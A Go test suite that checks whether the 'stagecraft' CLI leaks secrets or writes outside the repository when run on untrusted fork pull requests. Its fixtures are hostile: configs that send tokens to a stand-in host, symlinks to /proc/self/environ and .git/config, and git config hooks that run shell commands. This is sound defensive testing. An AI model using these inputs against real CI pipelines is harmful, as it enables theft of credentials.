package cli_test

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/rogpeppe/go-internal/txtar"

	"github.com/stagecraft-dev/stagecraft/cmd/internal/cli"
	"github.com/stagecraft-dev/stagecraft/cmd/internal/terminal"
	"github.com/stagecraft-dev/stagecraft/internal/testtool"
)

// canary stands for everything that an untrusted architecture must not get.
const canary = "canary-5d1e77"

// proposals are what a fork could propose to the repository of newFork: files that it changes, links that it makes. OUTSIDE is a
// directory beside the repository, HOST a server that nobody may call.
var proposals = map[string]string{
	"a token for a host of the proposer's": `
-- crm/more.hcl --
environment "production" {
  crm "hubspot" {
    token    = env.CANARY
    base_url = "http://HOST"
  }
}`,
	"a token from the usual variable": `
-- crm/more.hcl --
environment "production" {
  crm "hubspot" { base_url = "http://HOST" }
}`,
	"a login at a host of the proposer's": `
-- crm/more.hcl --
environment "production" {
  crm "salesforce" {
    instance = "http://HOST"
    auth     = { method = "client_credentials", client_id = "x", client_secret = env.CANARY }
  }
}`,
	"a key file": `
-- crm/more.hcl --
environment "production" {
  crm "salesforce" {
    auth = { method = "jwt", client_id = "x", username = "u", key_file = "OUTSIDE/secret", login = "http://HOST", audience = "http://HOST" }
  }
}`,
	"a folder with metadata": `
-- crm/more.hcl --
environment "production" {
  crm "salesforce" { source = "OUTSIDE" }
}`,
	"a sandbox elsewhere": `
-- crm/more.hcl --
environment "production" {
  crm "sandbox" { path = "OUTSIDE/made/crm.db" }
}`,
	"a state in a repository of the proposer's": `
-- crm/more.hcl --
environment "production" {
  state "git" { url = "http://HOST/state.git" }
  crm "sandbox" {}
}`,
	"a state in a database of the proposer's": `
-- crm/more.hcl --
environment "production" {
  state "postgres" { url = "postgres://HOST/state" }
  crm "sandbox" {}
}`,
	"a state in the database": `
-- crm/more.hcl --
environment "production" {
  state "postgres" { url = env.CANARY }
  crm "sandbox" {}
}`,
	"a state elsewhere": `
-- crm/more.hcl --
environment "production" {
  state "local" { path = "OUTSIDE/secret" }
  crm "sandbox" {}
}`,
	"the default state behind a link": `link crm/.stagecraft/state/production.json -> OUTSIDE/secret
link crm/.stagecraft/state/sandbox.json -> OUTSIDE/secret
-- crm/more.hcl --
environment "production" {
  crm "sandbox" {}
}`,
	"what the tool keeps is a link": `link crm/.stagecraft -> OUTSIDE`,
	"a new module": `
-- crm/more.hcl --
module "m" { source = "git::http://HOST/m.git?ref=v1" }`,
	"a module over ssh": `
-- crm/more.hcl --
module "m" { source = "ssh://git@HOST/m.git" }`,
	"a module with a lock": `
-- crm/more.hcl --
module "m" { source = "git::http://HOST/m.git" }
-- crm/stagecraft.lock.hcl --
module "http://HOST/m.git" {
  ref    = ""
  commit = "0123456789abcdef0123456789abcdef01234567"
  hash   = "sha256:00"
}`,
	"a variable": `
-- crm/more.hcl --
variable "canary" { type = string }
role "x" { title = var.canary }`,
	"a variable with a default": `
-- crm/more.hcl --
variable "canary" { default = "mine" }
role "x" { title = var.canary }`,
	"a variable that tells its value": `
-- crm/more.hcl --
variable "canary" {
  default = "mine"
  validation {
    condition     = var.canary == ""
    error_message = "It is ${var.canary}."
  }
}`,
	"signing keys that are a link":    `link crm/signoffs/allowed_signers -> ../../.git/config`,
	"sign-offs that are a link":       `link crm/signoffs/sales/a.hcl -> OUTSIDE/secret`,
	"a directory of sign-offs":        `link crm/signoffs -> OUTSIDE`,
	"a theme that is a link":          `link crm/theme -> OUTSIDE`,
	"a theme of links":                "link crm/theme/theme.json -> OUTSIDE/secret\nlink crm/theme/faq.md.tmpl -> OUTSIDE/secret",
	"a file that is a link":           `link crm/more.hcl -> OUTSIDE/secret`,
	"git's configuration":             `link crm/more.hcl -> ../.git/config`,
	"the environment of the process":  `link crm/more.hcl -> /proc/self/environ`,
	"values that are a link":          `link crm/all.auto.vars.hcl -> OUTSIDE/secret`,
	"the architecture itself, linked": `link linked -> OUTSIDE`,
	"a repository inside": `link crm/objects/info/alternates -> OUTSIDE/secret
-- crm/HEAD --
ref: refs/heads/main
-- crm/config --
[core]
	repositoryformatversion = 0
	bare = true
	fsmonitor = "touch OUTSIDE/made"
	sshCommand = "touch OUTSIDE/made"
-- crm/refs/heads/main --
0123456789abcdef0123456789abcdef01234567`,
}

// fork is a clone of a repository with a proposal checked out, as in a pipeline.
type fork struct {
	t       *testing.T
	dir     string // the clone
	outside string
	event   string // file with the event
}

// newFork makes a repository whose branch main has an architecture with a module from git that was never fetched here, and the
// proposal as a commit after it.
func newFork(t *testing.T, proposal, host string) *fork {
	t.Helper()
	top := t.TempDir()
	f := &fork{t: t, dir: filepath.Join(top, "repo"), outside: filepath.Join(top, "outside"), event: filepath.Join(top, "event.json")}
	f.write("outside/secret", "-----BEGIN "+canary+"-----\nrole = "+canary+"\n")
	f.write("outside/more.hcl", "role \""+canary+"\" { title = \""+canary+"\" }\n")
	f.write("event.json", `{"pull_request": {"head": {"repo": {"id": 2, "full_name": "mallory/crm"}}, "base": {"repo": {"id": 1, "full_name": "acme/crm"}}}}`)
	f.write("repo/crm/architecture.hcl", "architecture \"acme\" {\n  title   = \"Acme\"\n  version = \"0.1.0\"\n}\nrole \"sales\" { title = \"Sales\" }\n")
	f.git("init", "-q", "-b", "main")
	f.git("add", ".")
	f.git("commit", "-q", "-m", "first")
	f.git("tag", "-a", "crm/v0.1.0", "-m", "first")
	// A commit of main that takes in a module, so that its past takes the network, too.
	f.write("repo/crm/module.hcl", "module \"old\" { source = \"git::http://"+host+"/old.git\" }\n")
	f.write("repo/crm/stagecraft.lock.hcl", "module \"http://"+host+"/old.git\" {\n  ref    = \"\"\n  commit = \"0123456789abcdef0123456789abcdef01234567\"\n  hash   = \"sha256:00\"\n}\n")
	f.git("add", ".")
	f.git("commit", "-q", "-m", "second")
	f.git("tag", "-a", "crm/v0.2.0", "-m", "second")
	for _, name := range []string{"module.hcl", "stagecraft.lock.hcl"} {
		if err := os.Remove(filepath.Join(f.dir, "crm", name)); err != nil {
			t.Fatal(err)
		}
	}
	f.git("add", "-A")
	f.git("commit", "-q", "-m", "third")
	f.git("update-ref", "refs/remotes/origin/main", "HEAD")
	ar := txtar.Parse([]byte(strings.NewReplacer("OUTSIDE", filepath.ToSlash(f.outside), "HOST", host).Replace(proposal)))
	for _, file := range ar.Files {
		f.write("repo/"+file.Name, string(file.Data))
	}
	for line := range strings.SplitSeq(string(ar.Comment), "\n") {
		if link, ok := strings.CutPrefix(line, "link "); ok {
			name, target, _ := strings.Cut(link, " -> ")
			path := filepath.Join(f.dir, filepath.FromSlash(name))
			if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(target, path); err != nil {
				t.Skip("links cannot be made here: ", err)
			}
		}
	}
	// What actions/checkout leaves there.
	config, err := os.OpenFile(filepath.Join(f.dir, ".git", "config"), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintf(config, "[http \"https://github.com/\"]\n\textraheader = AUTHORIZATION: basic %s\n", canary)
	if err := config.Close(); err != nil {
		t.Fatal(err)
	}
	return f
}

func (f *fork) write(name, text string) {
	f.t.Helper()
	path := filepath.Join(filepath.Dir(f.dir), filepath.FromSlash(name))
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		f.t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		f.t.Fatal(err)
	}
}

func (f *fork) git(args ...string) {
	f.t.Helper()
	cmd := exec.Command(testtool.Find(f.t, "git"), args...)
	cmd.Dir = f.dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL="+os.DevNull, "GIT_AUTHOR_NAME=Ada", "GIT_AUTHOR_EMAIL=ada@acme.example", "GIT_COMMITTER_NAME=Ada", "GIT_COMMITTER_EMAIL=ada@acme.example")
	if out, err := cmd.CombinedOutput(); err != nil {
		f.t.Fatalf("git %v: %v\n%s", args, err, out)
	}
}

// listing is what is outside of the repository.
func (f *fork) listing() string {
	var b strings.Builder
	_ = filepath.WalkDir(f.outside, func(path string, d os.DirEntry, err error) error {
		fmt.Fprintln(&b, path, err)
		return nil
	})
	return b.String()
}

// commands are what a pipeline could run on the architecture in DIR; those after the empty line are refused.
const commands = `validate DIR
validate --json DIR
validate --env production DIR
lint DIR
lint --json DIR
lint --format sarif DIR
lint --format junit DIR
lint --format github DIR
fmt --check --diff DIR
test DIR
plan DIR
plan --env production DIR
plan --env production --json DIR
plan --env production --markdown DIR
plan --env production --base origin/main DIR
plan --env production --base crm/v0.2.0 DIR
plan --env production --require signed,verified DIR
plan --env production --require signed --trust origin/main DIR
plan --env production --out OUT/plan.json DIR
plan --var-file DIR/../linked/secret DIR
plan DIR/../linked
diff origin/main --dir DIR
diff crm/v0.2.0 --dir DIR
diff crm/v0.1.0 crm/v0.2.0 --dir DIR
diff origin/main --markdown --dir DIR
changelog DIR
render --format md --out OUT/documents DIR
render --format html --only faq --out OUT/documents DIR
render --format md --theme DIR/theme --out OUT/documents DIR
signoff status DIR
signoff status --json DIR
providers --matrix DIR

apply --env production --auto-approve DIR
drift --env production DIR
audit --env production DIR
import --env production --out OUT/import DIR
init DIR
init --upgrade DIR
export --env production --format terraform --out OUT/export DIR
state list --env production --dir DIR
sandbox show --env production DIR
signoff DIR role.sales --role sales
release 1.0.0 DIR
serve DIR
demo --out OUT/demo`

// TestUntrustedCommands runs every command on every proposal: none gets a variable, a file or an answer that is not its own, and
// nothing outside is written.
func TestUntrustedCommands(t *testing.T) {
	host := testtool.NobodyCalls(t)
	reading, writing, _ := strings.Cut(commands, "\n\n")
	// What the tool itself asks for, before it reads any architecture.
	own := []string{"STAGECRAFT_UNTRUSTED", "GITHUB_EVENT_NAME", "GITHUB_EVENT_PATH", "GITHUB_BASE_REF", "CI_MERGE_REQUEST_SOURCE_PROJECT_ID",
		"CI_EXTERNAL_PULL_REQUEST_SOURCE_REPOSITORY", "COLUMNS", "NO_COLOR"}
	for name, proposal := range proposals {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f := newFork(t, proposal, host)
			before := f.listing()
			for line := range strings.SplitSeq(reading+"\n"+writing, "\n") {
				out := t.TempDir()
				args := strings.Fields(strings.NewReplacer("DIR", filepath.Join(f.dir, "crm"), "OUT", out).Replace(line))
				s, stdout, stderr := terminal.Test("")
				s.Getenv = func(name string) string {
					switch name {
					case "GITHUB_EVENT_NAME":
						return "pull_request"
					case "GITHUB_EVENT_PATH":
						return f.event
					case "GITHUB_BASE_REF":
						return "main"
					}
					if !slices.Contains(own, name) {
						t.Errorf("stagecraft %s: the variable %s was read", line, name)
						return canary
					}
					return ""
				}
				code := cli.Run(context.Background(), args, s)
				told := stdout.String() + stderr.String()
				if strings.Contains(told, canary) {
					t.Errorf("stagecraft %s tells the secret:\n%s", line, told)
				}
				if strings.Contains(told, "panic") {
					t.Errorf("stagecraft %s:\n%s", line, told)
				}
				if strings.Contains(writing, line) && (code != cli.ExitError || !strings.Contains(told, "SC0420")) {
					t.Errorf("stagecraft %s is not refused: %d\n%s", line, code, told)
				}
				if code == cli.ExitUsage {
					t.Errorf("stagecraft %s:\n%s", line, told)
				}
				if found := within(t, out, canary); found != "" {
					t.Errorf("stagecraft %s wrote the secret to %s", line, found)
				}
			}
			if after := f.listing(); after != before {
				t.Errorf("outside of the repository there was\n%s\nand is\n%s", before, after)
			}
			if _, err := os.Lstat(filepath.Join(f.dir, "crm", ".stagecraft", ".gitignore")); err == nil {
				t.Error("something was written beside the architecture")
			}
		})
	}
}

// within names a file below a directory that has a text.
func within(t *testing.T, dir, text string) (found string) {
	t.Helper()
	err := filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, err := os.ReadFile(path)
		if bytes.Contains(data, []byte(text)) {
			found = path
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return found
}

// TestUntrustedProcess is the same in a process of its own, with a secret in every variable that a pipeline may have and all
// of the network behind a proxy that nobody may use.
func TestUntrustedProcess(t *testing.T) {
	host := testtool.NobodyCalls(t)
	for _, name := range []string{"a token for a host of the proposer's", "a new module", "a state in the database", "a theme of links", "signing keys that are a link"} {
		f := newFork(t, proposals[name], host)
		reading, writing, _ := strings.Cut(commands, "\n\n")
		for line := range strings.SplitSeq(reading+"\n"+writing, "\n") {
			out := t.TempDir()
			cmd := exec.Command("stagecraft", strings.Fields(strings.NewReplacer("DIR", "crm", "OUT", out).Replace(line))...)
			cmd.Dir = f.dir
			cmd.Env = append(os.Environ(), "GITHUB_ACTIONS=true", "GITHUB_EVENT_NAME=pull_request", "GITHUB_EVENT_PATH="+f.event, "GITHUB_BASE_REF=main",
				"HTTP_PROXY=http://"+host, "HTTPS_PROXY=http://"+host, "ALL_PROXY=http://"+host, "NO_PROXY=", "GIT_CONFIG_GLOBAL="+os.DevNull)
			for _, secret := range []string{"CANARY", "HUBSPOT_TOKEN", "HUBSPOT_BASE_URL", "SF_ACCESS_TOKEN", "SF_INSTANCE_URL", "DATABASE_URL", "GITHUB_TOKEN", "GH_TOKEN",
				"CI_JOB_TOKEN", "STAGECRAFT_VAR_canary", "STAGECRAFT_GIT_TOKEN", "PGPASSWORD"} {
				cmd.Env = append(cmd.Env, secret+"="+canary)
			}
			told, _ := cmd.CombinedOutput() // many of them fail
			if bytes.Contains(told, []byte(canary)) {
				t.Errorf("%s: stagecraft %s tells the secret:\n%s", name, line, told)
			}
			if found := within(t, out, canary); found != "" {
				t.Errorf("%s: stagecraft %s wrote the secret to %s", name, line, found)
			}
		}
	}
}
